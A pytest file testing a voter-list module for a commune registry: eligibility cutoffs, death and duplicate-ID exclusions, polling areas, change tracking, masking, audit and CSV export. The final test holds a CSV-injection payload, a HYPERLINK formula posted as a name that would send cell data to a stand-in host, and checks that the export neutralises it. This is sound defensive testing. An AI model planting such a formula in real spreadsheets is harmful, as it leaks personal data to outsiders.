"""Voter lists: who is on a commune's list, in which polling area, what changed since the last
list and why; stored versions, audit, masking and exports."""

from __future__ import annotations

from datetime import date
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from vigil.core.access import Actor, Role
from vigil.core.errors import NotFoundError, PermissionDenied
from vigil.deployment import Deployment
from vigil.registry.datasets import DEATHS, HOUSEHOLDS, MOVES, PERSONS, SCHEMAS
from vigil.registry.errors import RegistryError
from vigil.registry.voters.build import build_voter_list
from vigil.registry.voters.eligibility import born_by, load_areas, voting_day
from vigil.registry.voters.export import export_list, find_list, read_list
from vigil.registry.voters.models import VoterChange, VoterList
from vigil.store.models import AuditEntry

# The test province votes on 2026-03-15 (local): 18 or older means born by 2008-03-15.
CUTOFF = date(2008, 3, 15)


def person(pid: str, **over: Any) -> dict[str, Any]:
    row: dict[str, Any] = {
        "person_id": pid, "citizen_id": f"046090{int(pid[1:]):06d}",
        "full_name": "Nguyễn Văn An", "sex": "Nam", "birth_date": date(1990, 1, 1),
        "ethnicity": "Kinh", "commune": "C01", "village": "C01-V01", "household_id": "H1",
        "relation_to_head": "con", "address": "Thôn 1, xã Hòa An", "phone": None,
        "death_date": None,
    }  # fmt: skip
    row.update(over)
    return row


PEOPLE = [
    person("P1"),
    person("P2", birth_date=CUTOFF),  # 18 exactly on voting day
    person("P3", birth_date=date(2008, 3, 16)),  # 18 the day after
    person("P4", death_date=date(2025, 1, 1)),  # the registry knows they died
    person("P5", citizen_id="046090777777"),  # a death record names them
    person("P6", birth_date=None),
    person("P7", citizen_id="046090000001"),  # the same ID as P1
    person("P8", village="C01-V02", household_id="H2"),
    person("P9", village=None, household_id="H3"),
    person("P10", commune="C02", village="C02-V01", household_id="H9"),
]
DEATH = {
    "record_id": "KT1", "citizen_id": "046090777777", "full_name": "Nguyễn Văn An",
    "sex": "Nam", "birth_date": date(1990, 1, 1), "death_date": date(2026, 1, 1),
    "commune": "C01", "registered_on": date(2026, 1, 5),
}  # fmt: skip


def household(hid: str, commune: str = "C01", village: str | None = "C01-V01") -> dict[str, Any]:
    return {"household_id": hid, "commune": commune, "village": village, "address": "x",
            "registered_on": date(2000, 1, 1), "members": 1}  # fmt: skip


def write(dep: Deployment, dataset: str, kind: str, rows: list[dict[str, Any]], batch: str) -> None:
    dep.lake.write(dataset, pa.Table.from_pylist(rows, schema=SCHEMAS[kind]), batch)


@pytest.fixture
def registry(deployment: Deployment) -> Deployment:
    write(deployment, PERSONS, "persons", PEOPLE, "p1")
    write(deployment, DEATHS, "deaths", [DEATH], "d1")
    write(
        deployment,
        HOUSEHOLDS,
        "households",
        [household("H1"), household("H2", "C01", "C01-V02")],
        "h1",
    )
    return deployment


def officer(role: Role, unit: str = "C01") -> Actor:
    return Actor("officer", role, unit, frozenset({unit}))


def test_born_by_counts_whole_years_and_29_february() -> None:
    assert born_by(date(2026, 3, 15)) == date(2008, 3, 15)
    assert born_by(date(2028, 2, 29)) == date(2010, 2, 28)
    assert born_by(date(2027, 3, 1)) == date(2009, 3, 1)


def test_voting_day_comes_from_the_calendar(deployment: Deployment) -> None:
    assert voting_day(deployment) == date(2026, 3, 15)


def test_the_list_holds_exactly_the_living_listed_adults(registry: Deployment) -> None:
    with registry.store.session() as session:
        built = build_voter_list(session, registry, registry.system("t"), "C01")
    assert (built.version, built.voters, built.added, built.removed) == (1, 4, 0, 0)
    assert built.left_off == {
        "under_age": 1, "death_record": 1, "no_birth_date": 1, "same_citizen_id": 1
    }  # fmt: skip
    assert built.areas == {"C01-V01": 2, "C01-V02": 1, "C01-unassigned": 1}
    with registry.store.reader() as session:
        vl = find_list(session, registry.system("t"), "C01", None)
        rows = read_list(session, registry.system("t"), vl).rows
        assert [r["person_id"] for r in rows] == ["P1", "P2", "P8", "P9"]
        assert (vl.voting_day, vl.born_by, vl.built_by) == (date(2026, 3, 15), CUTOFF, "t")
        entry = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "registry.voters.build")
        ).one()
        assert entry.target == f"voter-list:{vl.id}" and entry.detail["voters"] == 4


def test_rows_are_masked_unless_revealed_and_a_reveal_is_audited(registry: Deployment) -> None:
    with registry.store.session() as session:
        build_voter_list(session, registry, registry.system("t"), "C01")
    data_officer = officer(Role.DATA_OFFICER)
    with registry.store.session() as session:
        vl = find_list(session, data_officer, "C01", None)
        masked = read_list(session, data_officer, vl).rows[0]
        assert (masked["full_name"], masked["birth_date"], masked["citizen_id"]) == (
            "Nguyễn V. A.",
            "1990",
            "046*******01",
        )
        assert (
            session.scalars(select(AuditEntry).where(AuditEntry.action == "personal.view")).all()
            == []
        )
        shown = read_list(session, data_officer, vl, reveal=True).rows[0]
        assert (shown["full_name"], shown["birth_date"]) == ("Nguyễn Văn An", "1990-01-01")
        [entry] = session.scalars(select(AuditEntry).where(AuditEntry.action == "personal.view"))
        assert entry.actor == "officer" and entry.target == f"voter-list:{vl.id}"
    with registry.store.session() as session, pytest.raises(PermissionDenied):
        read_list(session, officer(Role.VIEWER), vl, reveal=True)


def test_building_needs_a_data_officer_of_the_commune(registry: Deployment) -> None:
    with registry.store.session() as session:
        with pytest.raises(PermissionDenied):
            build_voter_list(session, registry, officer(Role.VIEWER), "C01")
        with pytest.raises(PermissionDenied):
            build_voter_list(session, registry, officer(Role.DATA_OFFICER, "C02"), "C01")
        with pytest.raises(NotFoundError):
            build_voter_list(session, registry, registry.system("t"), "D01")
    with registry.store.reader() as session, pytest.raises(NotFoundError):
        find_list(session, officer(Role.VIEWER, "C02"), "C01", None)


def test_a_new_list_says_who_was_added_and_removed_and_why(registry: Deployment) -> None:
    with registry.store.session() as session:
        build_voter_list(session, registry, registry.system("t"), "C01")
    # Since then: P1 moved to C02, P2 died, P8's death record came in, P9's record was
    # deleted, P11 moved in from C02, P12 is a record the first list did not have; P7 still
    # shares P1's citizen ID (P1 now in C02 keeps it) and stays off.
    lake = registry.lake
    for batch in lake.batches(PERSONS):
        (lake.folder(PERSONS) / f"{batch}.parquet").unlink()
    now = [p for p in PEOPLE if p["person_id"] not in {"P1", "P2", "P9"}]
    now += [
        person("P1", commune="C02", village="C02-V01", household_id="H9"),
        person("P2", birth_date=CUTOFF, death_date=date(2026, 2, 1)),
        person("P11", household_id="H2", village="C01-V02"),
        person("P12", village="C01-V02", household_id="H2"),
    ]
    now = [dict(p, citizen_id="046090888888") if p["person_id"] == "P8" else p for p in now]
    write(registry, PERSONS, "persons", now, "p2")
    write(
        registry, DEATHS, "deaths", [dict(DEATH, record_id="KT2", citizen_id="046090888888")], "d2"
    )
    move = {"move_id": "M1", "person_id": "P11", "from_household_id": "H9", "household_id": "H2",
            "commune": "C01", "village": "C01-V02", "moved_on": date(2026, 2, 10)}  # fmt: skip
    write(registry, MOVES, "moves", [move], "m1")
    with registry.store.session() as session:
        built = build_voter_list(session, registry, registry.system("t"), "C01")
    assert (built.version, built.voters, built.added, built.removed) == (2, 2, 2, 4)
    with registry.store.reader() as session:
        changes = {
            (c.person_id, c.change, c.reason)
            for c in session.scalars(
                select(VoterChange).where(VoterChange.list_id == built.list_id)
            )
        }
        assert session.get(VoterList, built.list_id).previous_id is not None  # type: ignore[union-attr]
    assert changes == {
        ("P1", "removed", "moved_away"), ("P2", "removed", "died"),
        ("P8", "removed", "death_record"), ("P9", "removed", "delisted"),
        ("P11", "added", "moved_in"), ("P12", "added", "listed"),
    }  # fmt: skip


def test_a_mapping_puts_villages_into_polling_areas(registry: Deployment, tmp_path: Path) -> None:
    path = tmp_path / "areas.csv"
    path.write_text("village,polling_area\nC01-V01,KV1\nC01-V02,KV1\n", encoding="utf-8")
    with registry.store.session() as session:
        built = build_voter_list(session, registry, registry.system("t"), "C01", load_areas(path))
    assert built.areas == {"KV1": 3, "C01-unassigned": 1}


@pytest.mark.parametrize(
    ("text", "line"),
    [("village,area\nC01-V01,KV1\n", 1), ("village,polling_area\nC01-V01,\n", 2),
     ("village,polling_area\nC01-V01,KV1\nC01-V01,KV2\n", 3)],
)  # fmt: skip
def test_a_bad_mapping_is_refused_naming_its_line(tmp_path: Path, text: str, line: int) -> None:
    path = tmp_path / "areas.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(RegistryError) as e:
        load_areas(path)
    assert e.value.location is not None and e.value.location.line == line


def test_csv_export_is_masked_by_default_and_audited(registry: Deployment) -> None:
    with registry.store.session() as session:
        build_voter_list(session, registry, registry.system("t"), "C01")
        body = export_list(registry, session, officer(Role.VIEWER), "C01", "csv").decode()
    lines = body.splitlines()
    assert (
        lines[0]
        == "polling_area,person_id,full_name,birth_date,sex,citizen_id,village,household_id"
    )
    assert lines[1] == "C01-V01,P1,Nguyễn V. A.,1990,Nam,046*******01,C01-V01,H1"
    assert len(lines) == 5
    with registry.store.session() as session:
        with pytest.raises(PermissionDenied):
            export_list(registry, session, officer(Role.VIEWER), "C01", "csv", reveal=True)
        full = export_list(registry, session, officer(Role.DATA_OFFICER), "C01", "csv", reveal=True)
        assert "C01-V01,P1,Nguyễn Văn An,1990-01-01,Nam,046090000001" in full.decode()
    with registry.store.reader() as session:
        exports = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "registry.voters.export")
        ).all()
        assert [e.detail["unmasked"] for e in exports] == [False, True]


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(max_size=300))
def test_any_mapping_text_is_read_or_refused_with_a_location(tmp_path: Path, text: str) -> None:
    path = tmp_path / "areas.csv"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    try:
        areas = load_areas(path)
    except RegistryError as e:
        assert e.location is not None and e.location.source == str(path)
        return
    for village, area in areas.mapping.items():
        assert village and area and len(area) <= 64


def test_a_voter_in_another_polling_area_is_a_move(registry: Deployment) -> None:
    with registry.store.session() as session:
        build_voter_list(session, registry, registry.system("t"), "C01")
    lake = registry.lake
    for batch in lake.batches(PERSONS):
        (lake.folder(PERSONS) / f"{batch}.parquet").unlink()
    now = [dict(p, village="C01-V02", household_id="H2") if p["person_id"] == "P1" else p
           for p in PEOPLE]  # fmt: skip
    write(registry, PERSONS, "persons", now, "p2")
    with registry.store.session() as session:
        built = build_voter_list(session, registry, registry.system("t"), "C01")
        changes = [
            (c.person_id, c.change, c.reason, c.polling_area)
            for c in session.scalars(
                select(VoterChange).where(VoterChange.list_id == built.list_id)
            )
        ]
    assert (built.added, built.removed) == (0, 0)
    assert changes == [("P1", "moved", "area_changed", "C01-V02")]


def test_a_hostile_name_cannot_become_a_spreadsheet_formula(deployment: Deployment) -> None:
    hostile = '=HYPERLINK("http://x.example/?"&A1,"Nguyễn")'
    write(deployment, PERSONS, "persons", [person("P1", full_name=hostile, village="@C01")], "p1")
    with deployment.store.session() as session:
        build_voter_list(session, deployment, deployment.system("t"), "C01")
        body = export_list(deployment, session, deployment.system("t"), "C01", "csv", reveal=True)
    row = body.decode().splitlines()[1]
    assert row.startswith("'@C01,P1,\"'=HYPERLINK(")
